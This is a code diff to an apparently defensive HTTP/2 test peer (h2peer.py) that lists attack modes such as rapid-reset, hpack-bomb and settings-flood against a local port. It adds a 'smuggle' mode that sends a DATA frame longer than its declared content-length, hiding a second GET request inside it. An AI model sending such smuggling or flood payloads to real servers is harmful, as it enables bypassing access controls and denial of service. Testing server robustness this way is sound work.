@@ -16,7 +16,7 @@ Run with Debian's /usr/bin/python3 (python3-h2 brings hpack).
   h2peer.py PORT ATTACK [OPTIONS]
 
 Attacks (see main()): get, rapid-reset, continuation-flood, big-headers, hpack-bomb,
-settings-flood, ping-flood, empty-data-flood, header, streams, stall, grpc.
+settings-flood, ping-flood, empty-data-flood, header, smuggle, streams, stall, grpc.
 """
 import argparse
 import json
@@ -259,6 +259,15 @@ def main():
         p = Peer(port)
         fields = [f for f in request_fields(port, path=a.path) if f[0] not in dict(extra)]
         p.send(p.headers(1, fields + extra))
+        p.pump(2.0, until=ended(1))
+        p.send(p.headers(3, request_fields(port)))
+        p.pump(a.seconds, until=ended(3))
+    elif a.attack == "smuggle":  # DATA longer than content-length, carrying a second request
+        p = Peer(port)
+        hidden = b"hello" + ("GET /smuggled HTTP/1.1\r\nHost: x\r\n\r\n").encode()
+        p.send(p.headers(1, request_fields(port, "POST", "/intake/v2/events",
+                                           [("content-length", "5")] + extra), end_stream=False))
+        p.send(frame(DATA, END_STREAM, 1, hidden))
         p.pump(2.0, until=ended(1))
         p.send(p.headers(3, request_fields(port)))
         p.pump(a.seconds, until=ended(3))
